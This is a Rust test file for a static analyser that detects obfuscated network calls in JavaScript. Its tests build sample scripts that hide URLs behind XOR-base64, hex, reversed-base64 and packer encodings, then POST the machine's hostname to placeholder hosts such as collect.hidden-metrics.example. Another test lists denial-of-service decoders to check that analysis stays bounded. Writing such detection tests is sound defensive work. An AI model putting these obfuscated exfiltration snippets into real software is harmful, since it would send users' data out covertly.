//! The interpreter of the file's own functions ([`crate::interp`]): decoders written by hand,
//! packers, benign helpers that hide nothing, and hostile decoders that must end at a bound.

use super::*;
use telltale_facts::DataKind;

fn run(src: &str) -> FileFacts {
    analyze("t.js", src, &Options::default())
}

fn hidden(f: &FileFacts, host: &str) -> Option<String> {
    f.endpoints
        .iter()
        .find(|e| e.host == host && !e.encodings.is_empty())
        .map(|e| e.encodings.join(" → "))
}

fn sends_hostname_to(f: &FileFacts, host: &str) -> bool {
    f.flows
        .iter()
        .any(|fl| fl.kinds.contains(DataKind::Hostname) && fl.endpoints.iter().any(|e| e == host))
}

/// `s` XORed with the key's characters in turn, then base64: what a `_$d`-style helper
/// decodes.
fn xor_base64(s: &str, key: &str) -> String {
    use base64::Engine;
    let k = key.as_bytes();
    let bytes: Vec<u8> = s
        .bytes()
        .enumerate()
        .map(|(i, b)| b ^ k[i % k.len()])
        .collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn xor_base64_helper_with_a_default_key() {
    // The shape one AI coding assistant hides 14,746 strings behind.
    let key = "OtD6Yb876vjw";
    let src = format!(
        r#"const _$d=(s,k="{key}")=>{{const b=Buffer.from(s,"base64");for(let i=0;i<b.length;i++)b[i]^=k.charCodeAt(i%k.length);return b.toString()}};
const os = require(_$d("{}"));
const host = os[_$d("{}")]();
fetch(_$d("{}"), {{ method: "POST", body: JSON.stringify({{ host }}) }});"#,
        xor_base64("os", key),
        xor_base64("hostname", key),
        xor_base64("https://collect.hidden-metrics.example/v1/e", key),
    );
    let f = run(&src);
    assert_eq!(
        hidden(&f, "collect.hidden-metrics.example").as_deref(),
        Some("_$d() → xor → base64"),
        "{:#?}",
        f.endpoints
    );
    assert!(
        sends_hostname_to(&f, "collect.hidden-metrics.example"),
        "{:#?}",
        f.flows
    );
    let o = f
        .obfuscations
        .iter()
        .find(|o| o.decoded.contains("collect.hidden-metrics"))
        .expect("the URL is reported as hidden");
    assert!(o.provenance.contains("literal at 4:"), "{}", o.provenance);
}

#[test]
fn hex_pairs_map_closures_and_reversal() {
    let hex: String = "https://hex.hidden.example/c"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    let shifted: Vec<String> = "hostname"
        .bytes()
        .map(|b| (b as u32 + 3).to_string())
        .collect();
    use base64::Engine;
    let reversed: String = base64::engine::general_purpose::STANDARD
        .encode("https://rev.hidden.example/c")
        .chars()
        .rev()
        .collect();
    let src = format!(
        r#"function h(s) {{ let o = ''; for (let i = 0; i < s.length; i += 2) {{ o += String.fromCharCode(parseInt(s.substr(i, 2), 16)); }} return o; }}
const m = (a) => a.map((c) => String.fromCharCode(c - 3)).join('');
function r(s) {{ return atob(s.split('').reverse().join('')); }}
const name = require('os')[m([{}])]();
fetch(h('{hex}'), {{ method: 'POST', body: name }});
fetch(r('{reversed}'), {{ method: 'POST', body: name }});"#,
        shifted.join(", ")
    );
    let f = run(&src);
    assert_eq!(
        hidden(&f, "hex.hidden.example").as_deref(),
        Some("h() → char-codes"),
        "{:#?}",
        f.endpoints
    );
    assert_eq!(
        hidden(&f, "rev.hidden.example").as_deref(),
        Some("base64"),
        "{:#?}",
        f.endpoints
    );
    assert!(
        sends_hostname_to(&f, "hex.hidden.example"),
        "{:#?}",
        f.flows
    );
    assert!(
        sends_hostname_to(&f, "rev.hidden.example"),
        "{:#?}",
        f.flows
    );
}

/// Dean Edwards' packer (base 62), as `eval(function(p,a,c,k,e,d){…}(…))` ships it.
fn pack(src: &str) -> String {
    fn enc(c: usize) -> String {
        let head = if c < 62 { String::new() } else { enc(c / 62) };
        let r = c % 62;
        let tail = if r > 35 {
            char::from_u32(r as u32 + 29).unwrap()
        } else {
            char::from_digit(r as u32, 36).unwrap()
        };
        format!("{head}{tail}")
    }
    let re = regex::Regex::new(r"\b\w+\b").unwrap();
    let mut words: Vec<String> = Vec::new();
    for m in re.find_iter(src) {
        if !words.iter().any(|w| w == m.as_str()) {
            words.push(m.as_str().to_string());
        }
    }
    let payload = re.replace_all(src, |c: &regex::Captures| {
        enc(words.iter().position(|w| w == &c[0]).unwrap())
    });
    let payload = payload.replace('\\', "\\\\").replace('\'', "\\'");
    format!(
        r"eval(function(p,a,c,k,e,d){{e=function(c){{return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))}};if(!''.replace(/^/,String)){{while(c--){{d[e(c)]=k[c]||e(c)}}k=[function(e){{return d[e]}}];e=function(){{return'\\w+'}};c=1}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}}}return p}}('{payload}',62,{},'{}'.split('|'),0,{{}}))",
        words.len(),
        words.join("|")
    )
}

#[test]
fn packed_code_is_unpacked_and_analysed() {
    let inner = "var os = require('os'); var h = os.hostname(); fetch('https://packed.hidden.example/b', { method: 'POST', body: h });";
    // Enough words for two-character codes.
    let filler: String = (0..80).map(|i| format!("var w{i} = {i};")).collect();
    let f = run(&pack(&format!("{filler}{inner}")));
    assert_eq!(f.nested.len(), 1, "{:#?}", f.diagnostics);
    let unpacked = &f.nested[0];
    assert_eq!(unpacked.facts.file, "t.js › eval#1");
    assert!(unpacked.text.contains(inner), "{}", unpacked.text);
    assert!(
        sends_hostname_to(&unpacked.facts, "packed.hidden.example"),
        "{:#?}",
        unpacked.facts.flows
    );
    assert!(
        f.obfuscations
            .iter()
            .any(|o| o.technique.contains("regex substitution") && o.technique.contains("eval")),
        "{:#?}",
        f.obfuscations
    );
}

#[test]
fn helpers_that_hide_nothing_are_not_obfuscation() {
    let f = run(
        r#"function greet(n) { let s = "Hello, "; for (const c of n) s += c; return s + "!"; }
function url(p) { return ["https://api.plain.example", p].join("/"); }
console.log(greet("world"));
fetch(url("v1/items"));"#,
    );
    assert!(f.obfuscations.is_empty(), "{:#?}", f.obfuscations);
    // The helper's value is still known: the request names its host, not hidden.
    assert!(
        f.endpoints
            .iter()
            .any(|e| e.host == "api.plain.example" && e.encodings.is_empty()),
        "{:#?}",
        f.endpoints
    );
}

#[test]
fn runs_have_no_effects_outside_the_call() {
    // Writing a module variable or a constant table, or reading the host, stops the run.
    let f = run(r#"let count = 0;
const T = ["https://", "tbl.hidden.example"];
function a(s) { count++; return atob(s); }
function b(s) { T.push(atob(s)); return T.join(""); }
function c(s) { return process.env.HOME + atob(s); }
const T2 = [["https://"]];
function d(s) { T2[0].push(atob(s)); return T2[0].join(""); }
fetch(a("aHR0cHM6Ly9hLmhpZGRlbi5leGFtcGxlLw=="));
fetch(b("L3g="));
fetch(c("eA=="));
fetch(d("bmVzdGVkLmhpZGRlbi5leGFtcGxl"));"#);
    // (`atob(s)` alone still reads as base64 of the argument callers pass.)
    assert!(
        !f.endpoints
            .iter()
            .any(|e| e.encodings.iter().any(|t| t.ends_with("()"))),
        "{:#?}",
        f.endpoints
    );
    assert!(
        !f.obfuscations.iter().any(|o| o.technique.contains("()")),
        "{:#?}",
        f.obfuscations
    );
}

#[test]
fn hostile_decoders_end_at_a_bound() {
    let hostile = [
        // An endless loop.
        "function f(s) { while (true) {} return atob(s); }",
        "function f(s) { for (;;) { s = s; } }",
        // Exponential strings.
        "function f(s) { for (let i = 0; i < 100; i++) s = s + s; return atob(s); }",
        "function f(s) { let o = s; while (o.length >= 0) o += o; return o; }",
        "function f(s) { return s.repeat(1e9) + atob(s); }",
        "function f(s) { return s.padStart(2 ** 40, 'x'); }",
        // Deep and exponential recursion.
        "function f(s) { return f(s + 'x'); }",
        "function f(s, n = 0) { return n > 60 ? atob(s) : f(s, n + 1) + f(s, n + 1); }",
        // Huge allocations.
        "function f(s) { const a = new Array(1e9); return atob(s) + a.length; }",
        "function f(s) { const b = Buffer.alloc(2 ** 31); return atob(s); }",
        "function f(s) { const a = []; for (;;) a.push(s); }",
        // Regexes that backtrack in other engines.
        "function f(s) { return /(a+)+$/.test('a'.repeat(30) + '!') ? atob(s) : s.replace(/(x+x+)+y/g, 'z'); }",
        // Found by the decoder fuzz target: an endless loop of expression statements, run
        // again by every pass that asked for the call's value.
        "function f(s) { for(;;)'\u{fffd}\u{fffd}\u{fffd}\u{fffd}execa.\u{fffd}\u{fffd}\u{fffd}\u{fffd}ab', 0 }",
        // Also found by the fuzz target: a string read as a number on every turn while it
        // grows (`+s` walks all of it).
        "function f(s) { for(;;)s+=+s; }",
        // Calls through closures and callbacks without end.
        "function f(s) { const g = (x) => [x].map(g); return g(s); }",
    ];
    for decoder in hostile {
        let src = format!(
            "{decoder}\nfetch(f('aHR0cHM6Ly9ob3N0aWxlLmV4YW1wbGUv'), {{ method: 'POST', body: require('os').hostname() }});"
        );
        let t = std::time::Instant::now();
        let f = run(&src);
        assert!(
            t.elapsed() < std::time::Duration::from_secs(10),
            "{decoder} took {:?}",
            t.elapsed()
        );
        // Nothing decoded by running `f` (`atob(s)` alone may still read as base64 of the
        // argument); the send itself is still found.
        assert!(
            !f.obfuscations
                .iter()
                .any(|o| o.technique.starts_with("f()")),
            "{decoder}: {:#?}",
            f.obfuscations
        );
        assert!(
            f.flows
                .iter()
                .any(|fl| fl.kinds.contains(DataKind::Hostname)),
            "{decoder}: {:#?}",
            f.flows
        );
    }
}

#[test]
fn many_calls_share_the_file_budget() {
    // Thousands of decoder calls, as in a bundle that hides every string: all decoded.
    let key = "k3y";
    let mut src = format!(
        "const d=(s,k=\"{key}\")=>{{const b=Buffer.from(s,\"base64\");for(let i=0;i<b.length;i++)b[i]^=k.charCodeAt(i%k.length);return b.toString()}};\n"
    );
    for i in 0..3000 {
        src.push_str(&format!(
            "const v{i} = d(\"{}\");\n",
            xor_base64(&format!("message number {i} about nothing"), key)
        ));
    }
    src.push_str(&format!(
        "fetch(d(\"{}\"));\n",
        xor_base64("https://last.hidden.example/x", key)
    ));
    let f = run(&src);
    assert_eq!(
        hidden(&f, "last.hidden.example").as_deref(),
        Some("d() → xor → base64"),
        "{:#?}",
        f.endpoints
    );
}
